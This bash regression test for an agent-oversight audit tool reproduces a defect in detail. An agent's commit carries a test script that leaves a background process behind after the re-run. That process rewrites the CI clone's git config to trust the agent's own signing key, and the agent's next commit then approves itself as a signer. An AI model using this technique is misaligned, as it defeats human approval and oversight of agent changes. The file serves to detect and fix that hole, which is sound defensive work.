#!/usr/bin/env bash
# Defect: `harness audit --rerun` lets a process started by a re-run command outlive it and change what
#   the audit itself reads afterwards. harness/runner.py::_run kills the command's process group only on a
#   timeout or an interrupt, never when the command exits normally, and the poisoning fingerprint
#   (harness/history/rerun/isolation.py, fingerprint.py) is taken only right after each run - never again
#   before the next commit's checks nor at the end of the job. Meanwhile the audit's trust root is resolved
#   lazily (harness/signatures/trust.py::Signers.external -> configured() reads git config
#   harness.allowedSigners at the first approval check, which comes after the re-runs of earlier commits).
#   So an agent's DONE commit C1 whose test script leaves a background process behind can, once C1's
#   re-run worktree is gone, write `harness.allowedSigners` into the CI clone's .git/config naming the
#   agent's own key; the next pushed commit C2 adds that key to .harness/allowed_signers with a
#   `signers-change` approval the agent signed itself, and the audit reports "no problems", exit 0.
#   (The same push audited without --rerun is refused, exit 1: signers-change-needs-approval.)
# Correct: a re-run must not be able to change the audit's own verdict on other commits: the command's
#   whole process tree is ended when it exits (killpg / a child subreaper or cgroup), the trust root is
#   fixed before the first re-run, and/or the fingerprint is re-checked before each later check and at
#   the end of the job (a change is poisoning, exit 2). Either way C2 must not pass: exit 1 or 2.
# Exit 1 while the defect is present, 0 when fixed, 2 on setup failure.
here=$(cd "$(dirname "$0")/../.." && pwd); export PATH="$here/.venv/bin:$PATH"
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
T=$(mktemp -d) || exit 2; trap 'sleep 0.5; rm -rf "$T"' EXIT
export HOME="$T/home"; mkdir -p "$HOME"; R="$T/repo"; mkdir "$R"; cd "$R" || exit 2
ssh-keygen -q -t ed25519 -N '' -f "$T/human" -C human >/dev/null || exit 2   # the human approver
ssh-keygen -q -t ed25519 -N '' -f "$T/agent" -C agent >/dev/null || exit 2   # the agent's own key
cat > "$T/approval.py" <<'PY'
# A signed, bound approval line for the working REL against HEAD's (what `harness approve` writes).
import hashlib, json, subprocess, sys
from harness.core import approvals as rules
from harness.signatures import signing
repo, kind, rel, key, signer = sys.argv[1:6]
new = open(f"{repo}/{rel}", "rb").read()
old = subprocess.run(["git", "-C", repo, "show", f"HEAD:{rel}"], capture_output=True).stdout
root = min(subprocess.run(["git", "-C", repo, "rev-list", "--max-parents=0", "HEAD"],
                          capture_output=True, text=True).stdout.split())
entry = {"kind": kind, "digest": hashlib.sha256(new).hexdigest(), "changes": ["add an approver"],
         "approved_by": f"x <{signer}>", "signer": signer, "os_user": "x", "at": "2026-01-01T00:00:00Z"}
entry |= rules.binding(root, old)
entry["signature"] = signing.sign(rules.payload(entry), key, rules.NAMESPACE)
print(json.dumps(entry, sort_keys=True))
PY
git init -q --bare "$T/origin.git"
( git init -q -b main && git remote add origin "$T/origin.git" && mkdir .harness \
  && printf 'version: 1\nevidence:\n  unit_test:\n    command: ["sh", "check.sh"]\n' > .harness/config.yaml \
  && echo 'exit 0' > check.sh && echo a > a.txt && harness init \
  && echo "human@x $(cut -d' ' -f1,2 "$T/human.pub")" > .harness/allowed_signers \
  && git add -A && git commit -qm "C0: adopt the harness; the human is the approver" && git push -q origin main ) \
  >/dev/null 2>&1 || exit 2
C0=$(git rev-parse HEAD)

# C1 (agent): an honest DONE task. Its test script, when run in a re-run worktree, leaves a process behind.
APUB="agent@x $(cut -d' ' -f1,2 "$T/agent.pub")"
cat > check.sh <<SH
case "\$PWD" in
  */harness-rerun-*/tree)
    common=\$(git rev-parse --path-format=absolute --git-common-dir); tree=\$PWD
    ( n=0; while [ -d "\$tree" ] && [ \$n -lt 3000 ]; do sleep 0.01; n=\$((n+1)); done
      cd / && echo '$APUB' > "\$common/agent_signers" \
        && git --git-dir="\$common" config harness.allowedSigners "\$common/agent_signers" ) </dev/null >/dev/null 2>&1 &
    ;;
esac
exit 0
SH
( harness task new t && for s in SPECIFYING PLANNED IMPLEMENTING VERIFYING; do harness transition $s || exit 1; done \
  && harness evidence unit_test && harness transition REVIEWING && harness transition GATING && harness gate \
  && harness converge --apply && harness transition DONE && git add -A && git commit -qm "C1: task DONE" ) \
  >/dev/null 2>&1 || exit 2

# C2 (agent): its own key into .harness/allowed_signers, "approved" by that same key; plus a plain notes
# file under .harness/ (the secret scan reads it before the signers check: time for the straggler).
echo "$APUB" >> .harness/allowed_signers
python3 "$T/approval.py" "$R" signers-change .harness/allowed_signers "$T/agent" agent@x >> .harness/approvals.jsonl || exit 2
python3 -c "import sys; sys.stdout.write(''.join(f'line {i} of the notes\n' for i in range(200000)))" > .harness/notes.txt
git add -A && git commit -qm "C2: add an approver" >/dev/null || exit 2
C2=$(git rev-parse HEAD)
git push -q origin main || exit 2

# CI: a fresh clone, the documented push audit.
git clone -q "$T/origin.git" "$T/ci" 2>/dev/null && cd "$T/ci" || exit 2
harness audit --before "$C0" --to "$C2" --ref refs/heads/main >"$T/plain.out" 2>&1; plain=$?
if [ "$plain" -ne 1 ] || ! grep -q signers-change-needs-approval "$T/plain.out"; then
  echo "setup: the audit without --rerun should refuse C2 (signers-change-needs-approval), got exit $plain"
  cat "$T/plain.out"; exit 2
fi
harness audit --before "$C0" --to "$C2" --ref refs/heads/main --rerun >"$T/rerun.out" 2>&1; rerun=$?
echo "audit without --rerun: exit $plain (C2 refused: signers-change-needs-approval)"
echo "audit with --rerun:    exit $rerun"
sed 's/^/  | /' "$T/rerun.out"
echo "CI clone's git config harness.allowedSigners after the audit: $(git config --get harness.allowedSigners || echo '(unset)')"
if [ "$rerun" -eq 0 ]; then
  echo "DEFECT: a process left by C1's re-run set the audit's trust root to the agent's key; C2's self-approved"
  echo "        new approver passed CI. (--rerun made the audit weaker than no re-run.)"
  exit 1
fi
echo "OK: C2 still refused (or the poisoning reported) with --rerun"
exit 0
